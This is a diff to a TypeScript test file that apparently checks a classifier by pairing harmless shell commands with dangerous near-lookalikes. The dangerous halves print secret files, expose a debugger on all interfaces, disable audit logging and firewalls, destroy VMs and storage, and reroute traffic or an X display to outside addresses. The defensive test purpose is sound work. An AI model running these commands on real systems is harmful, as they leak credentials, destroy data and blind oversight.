@@ -85,6 +85,62 @@ const PAIRS: readonly (readonly [string, string])[] = [
   ['bup save -n a /etc/passwd /etc/profile', 'frobnicate /usr/bin/passwd root'],
   ['chroot /mnt ls', 'chroot /proc/1/root ls'],
   ['capsh --print', 'capsh --gid=0 --uid=0 --'],
+  // Rights that are taken, and loads that end.
+  ['chmod a-rwx,u+rw ~/.netrc', 'chmod a-rwx ~/.netrc'],
+  ['PATH="./bin:$PATH" ./run', 'PATH=.:$PATH make'],
+  ['stress-ng --cpu 4 --timeout 60s', 'stress-ng --cpu 4 --timeout 1h'],
+  ['stress-ng --cpu 8 --cpu-ops 800000', 'stress-ng --all 8 --timeout 60s'],
+  ['fio --name=a --size=64m --rw=randread', 'fio --name=a --size=64m --filename=/dev/sda'],
+  // Keys that a program uses, and keys that it shows.
+  ['node -r dotenv/config a.js dotenv_config_path=/srv/app/.env', 'cat /srv/app/.env'],
+  ['aria2c --certificate=/srv/me.p12 https://x.example', 'base64 me.p12'],
+  ['age -r age1x secrets.txt > secrets.txt.age', 'age -d secrets.txt.age'],
+  ['age -d -o data.tgz -i key.txt data.tgz.age', 'age -d -i key.txt data.tgz.age'],
+  // Packages beside the program, a debugger for this machine.
+  ["NODE_OPTIONS='--loader=esmock' ava", "NODE_OPTIONS='--loader=/tmp/x.mjs' ava"],
+  ["NODE_OPTIONS='--inspect-brk' npm run dev", "NODE_OPTIONS='--inspect=0.0.0.0:9' npm run dev"],
+  ['quilt push -a', 'quilt push me/data'],
+  ['ln -s /usr/local/lib/x', 'ln -s x /usr/local/lib/x'],
+  ['duplicity verify sftp://me@x.example/d /home/me', 'duplicity /home/me sftp://me@x.example/d'],
+  [
+    'curl -XPOST http://localhost:9090/api/v1/admin/tsdb/snapshot',
+    'curl -XPOST http://localhost:9090/api/v1/admin/tsdb/clean_tombstones',
+  ],
+  // Requests that change what a service holds, or speak for the owner.
+  [
+    `curl -d '{"query":"mutation { userUpdate(id: 1) }"}' https://x.example`,
+    `curl -d '{"query":"mutation { volumeDelete(id: 1) }"}' https://x.example`,
+  ],
+  [
+    'curl --unix-socket /var/run/docker.sock http://localhost/version',
+    'curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create',
+  ],
+  [
+    'curl -d @m.json http://localhost:8025/v3/mail/send',
+    'curl -d @m.json https://api.mails.example/v3/mail/send',
+  ],
+  ['slack --version', "slack chat send hi '#all'"],
+  // What clusters, clouds and hypervisors are told.
+  ['git push --force-with-lease origin topic', 'git push --force-with-lease origin main'],
+  ['kubectl -n kube-system get pods', 'kubectl exec -it -n kube-system etcd-0 -- sh'],
+  [
+    'aws ec2 describe-instances',
+    'aws ec2-instance-connect send-ssh-public-key --instance-id i-1 --ssh-public-key file://k.pub',
+  ],
+  ['gcloud logging sinks list', 'gcloud logging sinks update audit --disabled'],
+  ['ceph status', 'ceph fs rm a --yes-i-really-mean-it'],
+  ['rbd ls', 'rbd rm pool/image'],
+  ['esxcli vm process list', 'esxcli vm process kill --type=force --world-id=1'],
+  ['vim-cmd vmsvc/getallvms', 'vim-cmd vmsvc/destroy 12'],
+  ['esxcli network firewall get', 'esxcli network firewall set --enabled false'],
+  ['lvs', 'lvconvert --mergesnapshot vg0/snap'],
+  ['drbdadm status', 'drbdadm create-md --force r0'],
+  ['route -n', 'route add default gw 203.0.113.66'],
+  ['atq', 'atrm 3'],
+  ['pkill -f my-server', 'pkill -f polkitd'],
+  ["bpftrace -e 'BEGIN { exit(); }'", `bpftrace --unsafe -e 'BEGIN { system("id"); }'`],
+  ['code --install-extension acme.theme', 'code --install-extension x.vsix'],
+  ['xterm -e htop', 'xterm -display 203.0.113.9:1'],
 ];
 
 describe('commands that look alike', () => {
